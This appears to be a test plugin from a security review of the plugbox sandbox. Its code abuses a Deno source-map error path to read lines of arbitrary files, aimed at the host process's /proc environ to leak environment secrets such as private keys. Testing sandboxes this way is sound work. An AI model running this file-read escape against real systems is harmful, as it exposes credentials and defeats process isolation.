// Review 133: review 131's source-map read (T29) aimed at the host's own process. Under the Deno
// layer the plugin's parent is the host, whose environment Deno's read of a source line shows a
// line at a time (`/proc/<host>/environ`, the variables joined by NUL bytes, cut at newlines): a
// value of several lines, a PEM key's say, gives every line of up to 150 bytes, though plugbox
// passes no variable of the host's to the plugin (T6). Asked with `attempt("<file>")`; the
// answer lists the first lines Deno showed, `null` where it showed none.
import { implement, serve } from "@plugbox/plugbox/plugin";
import { Probe } from "./probe.ts";

const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const vlq = (n: number) => {
  let v = n << 1, s = "";
  do {
    let d = v & 31;
    v >>>= 5;
    if (v > 0) d |= 32;
    s += digits[d];
  } while (v > 0);
  return s;
};

async function readLine(file: string, line: number): Promise<string | null> {
  const map = { version: 3, sources: [`file://${file}`], names: [], mappings: `AA${vlq(line)}A` };
  const code = 'throw new Error("x");\n//# sourceMappingURL=data:application/json;base64,' +
    btoa(JSON.stringify(map)) + `\n// ${Math.random()}`;
  try {
    await import(`data:text/javascript;base64,${btoa(code)}`);
    return "no error";
  } catch (error) {
    // deno-lint-ignore no-explicit-any
    const internal = (Deno as any)[(Deno as any).internal];
    return internal?.core?.destructureError(error).sourceLine ?? null;
  }
}

async function attack(file: string): Promise<string> {
  const lines: (string | null)[] = [];
  for (let line = 0; line < 4; line++) lines.push(await readLine(file, line));
  return JSON.stringify(lines);
}

await serve(implement(Probe, { attempt: (file) => attack(file) }));
